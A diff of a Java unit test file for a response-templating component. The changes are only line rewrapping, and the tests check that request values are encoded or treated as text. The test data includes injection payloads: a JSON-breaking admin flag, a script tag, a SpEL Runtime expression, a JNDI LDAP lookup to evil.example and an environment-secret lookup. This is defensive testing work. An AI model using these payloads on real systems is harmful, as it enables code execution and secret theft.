@@ -33,7 +33,8 @@ class RespondTargetTest {
     void in_json_the_texts_are_filled_and_a_value_stays_text() {
         RespondConfig config = new RespondConfig(
                 200, null, new JsonText("{\"id\":\"{id}\",\"items\":[{\"q\":\"{query.q}\"}]}"), null, Map.of());
-        AskedClient client = AskedClient.asking("/x/7").parameter("id", "7").fact("query.q", "\"}],\"admin\":true,\"\\");
+        AskedClient client =
+                AskedClient.asking("/x/7").parameter("id", "7").fact("query.q", "\"}],\"admin\":true,\"\\");
         RespondTarget.of(config, null).start(client);
         assertThat(client.header("Content-Type")).isEqualTo("application/json");
         assertThat(client.body())
@@ -48,8 +49,8 @@ class RespondTargetTest {
         "text/plain,                      {query.q},          <script>",
     })
     void a_value_is_encoded_for_the_type_of_the_body(String type, String body, String expected) {
-        AskedClient client = ask(
-                new RespondConfig(200, body, null, null, Map.of("content-type", type)), "query.q", "<script>");
+        AskedClient client =
+                ask(new RespondConfig(200, body, null, null, Map.of("content-type", type)), "query.q", "<script>");
         assertThat(client.header("Content-Type")).isEqualTo(type);
         assertThat(client.body()).isEqualTo(expected);
     }
@@ -57,15 +58,18 @@ class RespondTargetTest {
     @Test
     void into_a_type_without_known_rules_no_value_goes() {
         assertThatThrownBy(() -> RespondTarget.of(
-                        new RespondConfig(200, "var a = '{query.q}'", null, null, Map.of("Content-Type", "text/javascript")),
+                        new RespondConfig(
+                                200, "var a = '{query.q}'", null, null, Map.of("Content-Type", "text/javascript")),
                         null))
-                .hasMessageStartingWith("body: values of the request can be inserted into plain text, JSON, HTML and XML");
+                .hasMessageStartingWith(
+                        "body: values of the request can be inserted into plain text, JSON, HTML and XML");
     }
 
     @Test
     void the_request_does_not_say_what_type_the_answer_is() {
         assertThatThrownBy(() -> RespondTarget.of(
-                        new RespondConfig(200, "{query.q}", null, null, Map.of("Content-Type", "{header.accept}")), null))
+                        new RespondConfig(200, "{query.q}", null, null, Map.of("Content-Type", "{header.accept}")),
+                        null))
                 .hasMessageStartingWith("headers.Content-Type: ");
     }
 
@@ -92,7 +96,8 @@ class RespondTargetTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"#{T(java.lang.Runtime)}", "${jndi:ldap://evil.example/a}", "${env:SECRET}", "{query.q}", "{{q}}"})
+            strings = {"#{T(java.lang.Runtime)}", "${jndi:ldap://evil.example/a}", "${env:SECRET}", "{query.q}", "{{q}}"
+            })
     void a_value_that_looks_like_code_is_answered_as_text(String value) {
         assertThat(ask(text("[{query.q}]"), "query.q", value).body()).isEqualTo("[" + value + "]");
     }
